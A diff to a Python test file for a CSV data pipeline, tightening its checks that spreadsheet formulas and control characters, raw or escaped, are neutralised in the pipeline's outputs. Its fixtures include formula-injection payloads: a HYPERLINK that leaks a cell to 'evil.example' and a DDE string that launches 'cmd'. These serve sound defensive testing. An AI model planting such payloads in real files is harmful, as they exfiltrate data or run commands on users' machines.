@@ -23,7 +23,12 @@ ACLED_SAMPLE = config.PROJECT_ROOT / "tests" / "fixtures" / "acled_sample.csv"
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
             "-2+3", "@SUM(A1:A9)"]
 CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")
-HOSTILE_TEXT = "before\x00nul \x01soh \x1b[31mescape\x7f del\rcr\tafter\nline two"
+# In a page, a control character may also be written as an escape (JSON, JavaScript, HTML).
+ESCAPED_CONTROL = re.compile(r"\\u00(0[0-8bcef]|1[0-9a-f]|7f)|\\x[01][0-9a-f]|\\x7f|\\r"
+                             r"|&#(x0*([0-8bcef]|1[0-9a-f]|7f)|0*([0-8]|1[1-9]|2[0-9]|3[01]|127));",
+                             re.IGNORECASE)
+MARKER = "zqmark"
+HOSTILE_TEXT = f"{MARKER}\x00nul \x01soh \x1b[31mescape\x7f del\rcr\tafter\nline two"
 
 
 def _run(*args: str, env: dict[str, str] | None = None,
@@ -55,10 +60,10 @@ def _acled_lines() -> list[str]:
 
 
 def _acled_with(path: Path, edit) -> Path:
-    """The ACLED fixture with its first data row's fields changed by ``edit(row)``."""
+    """The ACLED fixture with its data rows changed by ``edit(rows)``."""
     with ACLED_SAMPLE.open(encoding="utf-8", newline="") as handle:
         rows = list(csv.DictReader(handle))
-    edit(rows[0])
+    edit(rows)
     return write_csv(path, list(rows[0]), rows)
 
 
@@ -90,8 +95,8 @@ def test_project_format__formulas_are_neutralised_in_csv_and_kept_in_parquet(tmp
 
 
 def test_acled__notes_and_source_formulas_are_neutralised(tmp_path):
-    def edit(row: dict[str, str]) -> None:
-        row.update(notes=FORMULAS[0], source=FORMULAS[3])
+    def edit(rows: list[dict[str, str]]) -> None:
+        rows[0].update(notes=FORMULAS[0], source=FORMULAS[3])
 
     export = _acled_with(tmp_path / "acled.csv", edit)
     done = _run_input(export, tmp_path / "out")
@@ -106,34 +111,47 @@ def test_acled__notes_and_source_formulas_are_neutralised(tmp_path):
 # 2. Control characters ----------------------------------------------------------------------
 
 def _assert_no_control_characters(out: Path) -> None:
-    for page in [*_csv_tables(out), out / "report.html", *(out / "figures").glob("*.html")]:
+    """No control character in any CSV; none, raw or escaped, after a marker in any page."""
+    for table in _csv_tables(out):
+        found = CONTROL.search(table.read_text(encoding="utf-8"))
+        assert found is None, (table.name, repr(found and found.group()))
+    pages = [out / "report.html", *(out / "figures").glob("*.html")]
+    shown = 0
+    for page in pages:
         text = page.read_text(encoding="utf-8")
-        found = CONTROL.search(text.replace("\r\n", "\n"))
-        assert found is None, (page.name, found and repr(found.group()))
+        for hit in re.finditer(MARKER, text):
+            shown += 1
+            window = text[hit.start():hit.start() + 60]
+            assert not CONTROL.search(window), (page.name, window)
+            assert not ESCAPED_CONTROL.search(window), (page.name, window)
+    assert shown, "the hostile text reached no page: the test checks nothing"
 
 
 def test_project_format__control_characters_are_stripped(tmp_path):
     rows = [make_row(summary=HOSTILE_TEXT, outlet="Out\x00let"),
-            make_row(report_id="r-\x002", event_date="2023-11-02", summary="ok",
-                     source_url="https://example.org/2")]
+            make_row(report_id=f"{MARKER}\x00-\x1b2", event_date="2023-11-02", confidence="low",
+                     summary="ok", source_url="https://example.org/2")]
     raw = write_csv(tmp_path / "raw.csv", RAW_COLUMNS, rows)
     done = _run_input(raw, tmp_path / "out")
     assert done.returncode == 0, done.stderr
     _assert_no_control_characters(tmp_path / "out")
     incidents = pd.read_parquet(tmp_path / "out" / "tables" / "incidents.parquet")
-    assert "before nul soh [31mescape del" in " ".join(incidents["summary"])
+    assert f"{MARKER}nul soh [31mescape del" in " ".join(incidents["summary"])
     assert "Outlet" in " ".join(incidents["outlets"])
 
 
 def test_acled__control_characters_are_stripped(tmp_path):
-    def edit(row: dict[str, str]) -> None:
-        row.update(notes=HOSTILE_TEXT, source="Out\x00let", event_id_cnty="FXIRQ\x1b0001")
+    def edit(rows: list[dict[str, str]]) -> None:
+        rows[0].update(notes=HOSTILE_TEXT, source="Out\x00let", event_id_cnty="FXIRQ\x1b0001")
+        rejected = next(row for row in rows if row["event_id_cnty"] == "FXIRQ0007")
+        rejected["event_id_cnty"] = f"{MARKER}\x00\x1bFXIRQ0007"
 
     export = _acled_with(tmp_path / "acled.csv", edit)
     done = _run_input(export, tmp_path / "out")
     assert done.returncode == 0, done.stderr
     _assert_no_control_characters(tmp_path / "out")
     assert "FXIRQ0001" in (tmp_path / "out" / "tables" / "incidents.csv").read_text()
+    assert f"{MARKER}FXIRQ0007" in (tmp_path / "out" / "tables" / "rejected.csv").read_text()
 
 
 # 3. Oversized fields and ragged rows --------------------------------------------------------
@@ -146,8 +164,8 @@ def test_project_format__oversized_field_exits_2_naming_row_and_column(tmp_path)
 
 
 def test_acled__oversized_field_exits_2_naming_row_and_column(tmp_path):
-    def edit(row: dict[str, str]) -> None:
-        row["notes"] = "y" * 200_000
+    def edit(rows: list[dict[str, str]]) -> None:
+        rows[0]["notes"] = "y" * 200_000
 
     export = _acled_with(tmp_path / "acled.csv", edit)
     _assert_refused(_run_input(export, tmp_path / "out"), tmp_path / "out", str(export),
